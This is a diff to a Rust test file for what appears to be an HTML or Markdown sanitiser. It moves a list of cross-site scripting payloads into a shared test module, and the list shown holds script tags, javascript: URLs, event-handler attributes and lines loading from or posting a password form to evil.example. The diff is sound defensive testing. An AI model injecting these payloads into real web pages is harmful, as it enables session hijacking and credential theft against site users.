@@ -3,34 +3,7 @@ use crate::helpers::*;
 use reqwest::StatusCode;
 use serde_json::json;
 
-const PAYLOADS: &[&str] = &[
-    "<script>alert('x')</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "[click](javascript:alert(1))",
-    "[click](JaVaScRiPt:alert(1))",
-    "[click](  javascript:alert(1))",
-    "![img](javascript:alert(1))",
-    "<a href=\"javascript:alert(1)\">x</a>",
-    "<a href=\"&#106;avascript:alert(1)\">x</a>",
-    "<img src=x onerror=alert(1)>",
-    "<p onclick=\"alert(1)\">hi</p>",
-    "<div onmouseover=alert(1)>hover</div>",
-    "<svg onload=alert(1)><circle r=10 /></svg>",
-    "<svg><script>alert(1)</script></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<iframe src=\"https://evil.example\"></iframe>",
-    "<object data=\"x.swf\"></object><embed src=x>",
-    "<style>body{display:none}</style>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
-    "<form action=https://evil.example><input type=password name=p></form>",
-    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
-    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
-    "<details open ontoggle=alert(1)>",
-    "<a href=\"vbscript:msgbox(1)\">x</a>",
-    "<base href=\"https://evil.example/\">",
-    "<p style=\"background:url(javascript:alert(1))\">x</p>",
-];
+use roundtable_tests::xss::PAYLOADS;
 
 const FORBIDDEN: &[&str] = &[
     "<script",
